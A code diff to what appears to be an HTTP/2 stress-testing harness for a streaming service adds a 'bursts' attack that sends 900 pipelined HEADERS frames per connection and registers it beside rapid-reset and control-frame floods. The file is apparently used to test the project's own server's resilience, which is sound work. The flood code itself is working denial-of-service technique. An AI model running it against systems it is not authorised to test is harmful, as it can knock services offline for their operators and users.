@@ -299,6 +299,24 @@ async def rapid_resets(target: Target) -> None:
     await crowd(target._replace(crowd=2), one)
 
 
+async def bursts(target: Target) -> None:
+    """Requests by the hundred, all at once."""
+    path = target.records(target.stream, "?seq_num=0&count=1&clamp=true")
+    block = request("GET", path, ("s2-basin", target.basin))
+    flags = wires.END_HEADERS | wires.END_STREAM
+    burst = b"".join(frame(wires.HEADERS, flags, 2 * at + 1, block) for at in range(900))
+
+    async def one(index: int) -> None:
+        reader, writer = await target.connect()
+        writer.write(preface() + burst)
+        with suppress(TimeoutError):
+            async with asyncio.timeout(0.5):
+                while await reader.read(65536):
+                    pass
+
+    await crowd(target._replace(crowd=4), one)
+
+
 async def control_floods(target: Target) -> None:
     """Settings and pings, each of which wants an answer, and nobody reads those."""
     flood = (frame(wires.SETTINGS, 0, 0) + frame(wires.PING, 0, 0, b"\0" * 8)) * 500
@@ -347,6 +365,7 @@ ATTACKS: Final[dict[str, Attack]] = {
         junk_json,
         resets,
         rapid_resets,
+        bursts,
         control_floods,
         garbage,
     )
